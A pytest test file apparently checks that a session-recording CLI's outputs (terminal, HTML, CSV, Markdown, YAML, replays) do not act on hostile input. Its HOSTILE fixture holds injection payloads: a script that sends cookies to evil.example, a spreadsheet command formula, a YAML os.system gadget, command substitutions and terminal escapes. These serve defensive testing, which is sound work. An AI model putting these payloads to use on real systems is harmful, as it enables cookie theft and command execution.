"""Whatever others write into messages, names, ids and reasons: no output acts on it, breaks, or gives up."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import sys
import unicodedata
import zipfile
from functools import partial
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import orjson
import pytest
import yaml
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from recorder.cli.app import app
from recorder.documents.writing import to_flow_yaml
from recorder.recipes.assistant_tools import AssistantTools

HOSTILE = {
    "html": "<script>fetch('http://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x9b31m\x90q\x9c",
    "nul": "a\x00b\x01\x08\x0b\x0c\x7f\x85",
    "half-a-pair": "\ud83d tail \udc00",
    "bidi": "\u202eevil\u202c \u2066x\u2069 \u200f \u200b \ufeff",
    "formula": "=cmd|'/C calc'!A0",
    "formula-behind-a-tab": "\t@SUM(1+1)",
    "cdata": "]]> <![CDATA[ x ]]> &amp; <!-- -->",
    "no-xml": "\ufffe\uffff\U0001fffe",
    "newlines": "a\nb\r\nc\u2028d\u2029e",
    "markup": "[bold red]x[/] :smile: [link=file:///etc/passwd]y[/link]",
    "placeholders": "${NO_SUCH_VARIABLE} {0} %s %(x)s $data {{ x }} `id` $(id)",
    "yaml": "- !!python/object/apply:os.system ['id']\n---\n: &a *a #",
    "long": "x" * 400_000,  # twice that is still a script
}


def capture(text: str) -> str:
    """A session in which everything that others may choose is ``text``."""
    event = {"type": "ContentEvent", "message": text, "contentType": "text/plain"}
    head = {"dialogId": f"d{text[:200]}", "originatorId": f"o{text[:200]}"}
    meta = {"originatorMetadata": {"id": f"o{text[:200]}", "role": text[:200]}}
    receipt = {"type": "AcceptStatusEvent", "status": text[:200] or "READ", "sequenceList": [0]}

    def notified(**change: object) -> dict[str, object]:
        changes = [{**head, **meta, "serverTimestamp": 1487455441507, **change}]
        return {"kind": "notification", "type": "ms.MessagingEventNotification", "body": {"changes": changes}}

    publish = {"kind": "req", "id": text[:100], "type": "ms.PublishEvent", "body": {**head, "event": event}}
    envelopes = [
        ("client", publish),
        (
            "service",
            {"kind": "resp", "reqId": text[:100], "code": 500, "type": text[:100], "body": text[:500]},
        ),
        ("service", notified(sequence=0, event=event)),
        ("client", {**publish, "id": 7, "body": {**head, "event": receipt}}),
        ("service", notified(sequence=1, event=receipt)),
        ("service", notified(sequence=2, event={**event, "type": text[:100]})),
        ("service", {"kind": text[:100], "type": text[:100], "body": {text[:100]: text[:100]}}),
        ("service", text[:100]),
    ]
    outside = text.encode("utf-8", "replace").decode()  # a line of a capture is UTF-8
    lines: list[dict[str, object]] = [
        {"recorder": 1, "name": outside[:300]},
        {"connection": 1, "url": "ws://service/x", "opened_at": "2017-02-18T22:03:58.000Z",
         "request_headers": [["X-One", outside[:100]]], "response_status": 101,
         "closed_at": "2017-02-18T22:05:00.000Z", "close_code": 4401, "close_reason": outside[:100],
         "closed_by": "service", "how": "closed"},
    ]  # fmt: skip
    for second, (sender, envelope) in enumerate(envelopes):
        written = json.dumps(envelope)
        at = f"2017-02-18T22:04:{second:02d}.000Z"
        lines.append({"connection": 1, "sender": sender, "at": at, "text": written})
    return "".join(json.dumps(line) + "\n" for line in lines)


@pytest.fixture(params=HOSTILE)
def run(request, tmp_path):
    """Run ``recorder`` on an archive with two such sessions; bytes come back."""
    text = HOSTILE[request.param]
    environment = {"RECORDER_ARCHIVE": str(tmp_path / "recorder.db")}

    def invoke(*arguments, codes=(0,)):
        result = CliRunner(env=environment).invoke(app, list(arguments))
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        assert result.exit_code in codes, result.output[:2000]
        assert acting(result.stderr_bytes.decode()) == set()
        return result.stdout_bytes.decode()

    for name in ("one", "two"):
        file = tmp_path / f"{name}.jsonl"
        file.write_text(capture(text if name == "one" else f"{text} "))
        invoke("import", str(file), *(["--name", name] if name == "two" else []))
    return invoke


def acting(text: str) -> set[str]:
    """The characters in it that act on a terminal; a line feed ends a line."""
    return {
        character
        for character in set(text) - {"\n"}
        if unicodedata.category(character) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    }


TABLES = [
    ("session", "list"),
    ("session", "show", "two"),
    ("session", "diff", "two", "two"),
    ("message", "list", "two"),
    ("message", "list", "two", "--follow"),
    ("message", "show", "two", "0"),
    ("frame", "list", "two"),
    *(("frame", "show", "two", str(number)) for number in range(1, 9)),
    ("check", "two"),
    ("archive", "info"),
    ("archive", "verify"),
    ("frame", "list", "two", "--follow"),
    ("frame", "list", "two", "--raw"),
    ("frame", "list", "two", "--where", '$.kind == "req"'),
    ("message", "list", "two", "--grep", "."),
    ("find", "ms.PublishEvent"),
    ("find", "$.kind"),
    *(
        ("sql", f"SELECT * FROM {table}")
        for table in ("session", "connection", "frame", "message", "receipt")
    ),
]


def test_what_people_read_acts_on_no_terminal(run):
    for arguments in TABLES:
        assert acting(run(*arguments, codes=(0, 3))) == set(), arguments


def test_differences_act_on_no_terminal(run):
    sessions = [json.loads(line)["session"] for line in run("session", "list", "--json").split("\n")[:-1]]
    assert acting(run("session", "diff", *sessions)) == set()
    for line in run("session", "diff", *sessions, "--json").split("\n")[:-1]:
        json.loads(line)


def test_every_line_of_json_is_an_object(run):
    for arguments in TABLES:
        for line in run(*arguments, "--json", codes=(0, 3)).split("\n")[:-1]:
            assert isinstance(json.loads(line), dict), arguments


def test_junit_is_xml_and_sarif_is_json(run):
    root = ET.fromstring(run("check", "two", "--format", "junit", codes=(0, 3)))
    assert root.tag == "testsuites"
    assert json.loads(run("check", "two", "--format", "sarif", codes=(0, 3)))["version"] == "2.1.0"


def test_an_export_comes_back_as_it_was(run, tmp_path):
    run("session", "export", "two", "-o", str(tmp_path / "three.jsonl"))
    run("import", str(tmp_path / "three.jsonl"), "--name", "three")
    frames = [run("frame", "list", name, "--json").splitlines() for name in ("two", "three")]
    assert frames[0] == frames[1]


def test_what_is_handed_on_is_text_for_whoever_reads_it(run):
    """Markdown has no markup of theirs, a diagram no lines, a spreadsheet nothing to run."""
    document = run("session", "export", "two", "--format", "markdown")
    assert acting(document) == set()
    kinds = {
        each.type
        for token in MarkdownIt("commonmark").enable("table").parse(document)
        for each in (token, *(token.children or ()))
    }
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "fence", "code_block"}
    diagram = run("session", "export", "two", "--format", "mermaid")
    for line in diagram.splitlines():
        assert re.fullmatch(r"[^;%<]*", re.sub(r"#\d+;", "", line)), line
        assert re.match(r"sequenceDiagram|    (participant p\d+ as |Note over p|p\d+-)", line), line
    table = run("session", "export", "two", "--format", "csv")
    csv.field_size_limit(sys.maxsize)
    for row in csv.reader(io.StringIO(table, newline="")):
        assert len(row) == 24
        assert not [cell for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert json.loads(run("session", "export", "two", "--format", "perfetto"))["traceEvents"]


class PageParser(HTMLParser):
    """What a browser would make of a page: its elements, and the texts of those scripts that would run."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.executed: list[str] = []
        self._runs = False

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self._runs = tag == "script" and dict(attrs).get("type") is None

    def handle_data(self, data):
        if self._runs:
            self.executed.append(data)

    def handle_endtag(self, tag):
        self._runs = False


def test_a_page_has_no_element_of_theirs_and_runs_our_script_alone(run):
    page = PageParser()
    page.feed(document := run("session", "export", "two", "--format", "html"))
    assert page.tags <= {
        "html", "head", "meta", "title", "style", "body", "main", "noscript", "script",
    }  # fmt: skip
    assert page.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class", "id", "type"}
    digest = hashlib.sha256("".join(page.executed).encode()).digest()
    assert f"script-src 'sha256-{base64.b64encode(digest).decode()}'" in document


def test_an_assistant_gets_json_that_is_utf_8(run, tmp_path):
    tools = AssistantTools(str(tmp_path / "recorder.db"), with_texts=True)
    messages = tools.list_messages("two")["messages"]
    named = [str(each["sequence"]) for each in messages if "sequence" in each]  # a refused publish has none
    assert named
    calls = [
        *(partial(call, "two") for call in (tools.show_session, tools.list_messages, tools.list_frames)),
        *(partial(tools.show_message, "two", message) for message in named),
        *(partial(tools.show_frame, "two", number) for number in range(1, 9)),
        tools.list_sessions,
        partial(tools.check_session, "two"),
        partial(tools.diff_sessions, "last~1", "two"),
        partial(tools.find, "$.kind"),
    ]
    for call in calls:
        assert isinstance(orjson.loads(orjson.dumps(call())), dict), call


def test_it_is_looked_for_like_any_text(run):
    for name, text in HOSTILE.items():
        written = text[:200]
        if "\0" in written:  # no argument holds one
            continue
        assert acting(run("find", written, codes=(0, 2))) == set(), name
        assert acting(run("frame", "list", "two", "--grep", re.escape(written), codes=(0, 2))) == set(), name
        where = f"$..[?@ == {json.dumps(written)}]"
        assert acting(run("frame", "list", "two", "--where", where, codes=(0, 2))) == set(), name


def test_a_bundle_of_it_is_taken_back(run, tmp_path):
    file = tmp_path / "ticket.zip"
    run("bundle", "two", "-o", str(file))
    with zipfile.ZipFile(file) as packed:
        assert set(packed.namelist()) - {"script.yaml"} == {
            "session.jsonl", "archive.db", "report.html", "versions.json",
        }  # fmt: skip
        assert json.loads(packed.read("versions.json"))["bundle"] == 1
    before = run("frame", "list", "two", "--json")
    other = str(tmp_path / "other.db")
    run("import", str(file), "--archive", other)
    assert run("frame", "list", "last", "--json", "--archive", other) == before


def test_a_script_of_it_can_be_read_again(run, tmp_path):
    written = run("session", "script", "two")
    assert acting(written) == set()
    file = tmp_path / "again.yaml"
    file.write_text(written)
    assert isinstance(yaml.safe_load(written), dict)
    run("replay", str(file), "--check")


# --- played ---------------------------------------------------------------------------------------------

PLAYED = """
name: {name}
steps:
- open_conversation:
- say: {text}
- await: {{message: {{from: agent}}, within: 30s, as: answer}}
- expect: {{message: {{from: agent, matching: "^never$"}}, within: 20ms}}
agent:
- on: message
  do: [{{say: {text}}}]
"""


@pytest.fixture(params=[name for name in HOSTILE if name != "half-a-pair"])
def script(request, tmp_path):
    """A script that says such a text, is called so, hears it, and fails over it."""
    text = HOSTILE[request.param][:5_000]
    file = tmp_path / "s.yaml"
    said = to_flow_yaml(text.replace("${", "$${"))
    file.write_text(PLAYED.format(name=to_flow_yaml(text[:100].replace("${", "$${")), text=said), "utf-8")
    return file


def invoked(archive, *arguments):
    result = CliRunner(env={"RECORDER_ARCHIVE": str(archive)}).invoke(app, list(arguments))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert acting(result.stderr_bytes.decode()) == set()
    return result.exit_code, result.stdout_bytes.decode()


def test_a_replay_of_it_fails_as_written_and_says_so_everywhere(script, tmp_path):
    archive, junit = tmp_path / "a.db", tmp_path / "out.xml"
    code, table = invoked(archive, "replay", str(script), "--clock", "virtual", "--junit", str(junit))
    assert (code, acting(table)) == (3, set())
    assert len(ET.parse(junit).findall(".//failure")) == 1
    code, lines = invoked(archive, "replay", str(script), "--clock", "virtual", "--json")
    _, *steps = [json.loads(line) for line in lines.split("\n")[:-1]]
    assert (code, [step["outcome"] for step in steps]) == (3, ["ok", "ok", "ok", "failed"])
    assert len(steps[3]["shown"]) == 2


def test_many_of_it_are_counted_in_tables_that_no_spreadsheet_runs(script, tmp_path):
    """What starts with =, +, - or @ is a formula to a spreadsheet, be it the text of a failure."""
    code, table = invoked(
        tmp_path / "a.db", "replay", str(script), "--users", "1", "--csv", str(tmp_path / "out"),
        "--html", str(tmp_path / "out.html"),
    )  # fmt: skip
    assert (code, acting(table)) == (3, set())
    for name in ("stats", "history", "failures"):
        with (tmp_path / f"out_{name}.csv").open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert cells
        assert not [cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "@"} or "\x1b" in cell]
    page = (tmp_path / "out.html").read_text("utf-8")
    assert page.count("<script") == page.count("</script") == 2
    assert "<img" not in page
